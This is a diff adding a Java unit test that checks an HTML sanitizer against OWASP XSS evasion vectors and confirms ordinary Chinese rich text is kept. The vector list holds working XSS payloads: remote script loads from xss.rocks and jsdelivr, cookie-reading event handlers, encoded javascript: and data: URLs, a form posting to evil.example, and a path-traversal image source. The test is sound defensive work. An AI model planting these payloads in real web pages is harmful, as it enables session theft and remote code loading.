@@ -1,0 +1,106 @@
+package org.citybridge.platform.html;
+
+import java.util.Locale;
+import java.util.stream.Stream;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** The allow-list against the OWASP XSS filter evasion cheat sheet, and what it must keep. */
+class RichTextTest {
+
+    /** Vectors from https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html */
+    static Stream<String> owaspVectors() {
+        return Stream.of(
+                "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
+                "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
+                "<IMG SRC=\"javascript:alert('XSS');\">",
+                "<IMG SRC=javascript:alert('XSS')>",
+                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+                "<a onmouseover=alert(document.cookie)>xxs link</a>",
+                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+                "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+                "<IMG SRC= onmouseover=\"alert('xxs')\">",
+                "<IMG onmouseover=\"alert('xxs')\">",
+                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+                "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+                "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+                "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+                "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+                "<IMG LOWSRC=\"javascript:alert('XSS')\">",
+                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+                "<svg/onload=alert('XSS')>",
+                "<BODY ONLOAD=alert('XSS')>",
+                "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+                "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
+                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+                "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+                "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
+                "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+                "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+                "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
+                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+                "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+                "<BASE HREF=\"javascript:alert('XSS');//\">",
+                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
+                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+                "<a href=\"javascript&colon;alert(1)\">x</a>",
+                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+                "<a href=\"vbscript:msgbox(1)\">x</a>",
+                "<a href=\"//evil.example/\">protocol-relative</a>",
+                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+                "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
+                "<img src=\"https://evil.example/track.png\">",
+                "<img src=\"/media/../../etc/passwd\">",
+                "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>");
+    }
+
+    @ParameterizedTest
+    @MethodSource("owaspVectors")
+    void nothingThatRunsOrReachesOutSurvives(String vector) {
+        String safe = RichText.sanitize(vector).toLowerCase(Locale.ROOT);
+
+        assertThat(safe).doesNotContain("<script", "<style", "<iframe", "<frame", "<object", "<embed", "<svg", "<math",
+                "<form", "<input", "<meta", "<link", "<base", "<body", "<bgsound", "style=", "background=", "dynsrc",
+                "lowsrc", "evil.example", "xss.rocks", "jsdelivr", "../");
+        assertThat(safe).as("no script URL in any attribute (as inert text it may stay)")
+                .doesNotContainPattern("=\"[^\"]*(javascript|vbscript|data):");
+        assertThat(safe).doesNotContainPattern("\\son[a-z]+\\s*=");
+        assertThat(safe).doesNotContainPattern("href=\"//");
+    }
+
+    @Test
+    void keepsWhatWritersUse() {
+        String body = "<h3>会议情况</h3><p><strong>6月12日</strong>，成都市召开<em>联络工作</em>座谈会。</p>"
+                + "<ul><li>一</li><li>二</li></ul><figure><img src=\"/media/0f8fad5b-d9cb-469f-a165-70867728950e\" alt=\"会场\">"
+                + "<figcaption>座谈会现场</figcaption></figure><p><a href=\"https://www.gov.cn/\">中国政府网</a></p>"
+                + "<table><tr><th>城市</th><td colspan=\"2\">成都市</td></tr></table>";
+
+        String safe = RichText.sanitize(body);
+
+        assertThat(safe).contains("<h3>会议情况</h3>", "<strong>6月12日</strong>", "<em>联络工作</em>", "<li>一</li>",
+                "src=\"/media/0f8fad5b-d9cb-469f-a165-70867728950e\"", "alt=\"会场\"", "<figcaption>座谈会现场</figcaption>",
+                "href=\"https://www.gov.cn/\"", "rel=\"nofollow\"", "colspan=\"2\"");
+        assertThat(RichText.plainText(body)).contains("6月12日，成都市召开联络工作座谈会。").doesNotContain("<");
+    }
+}
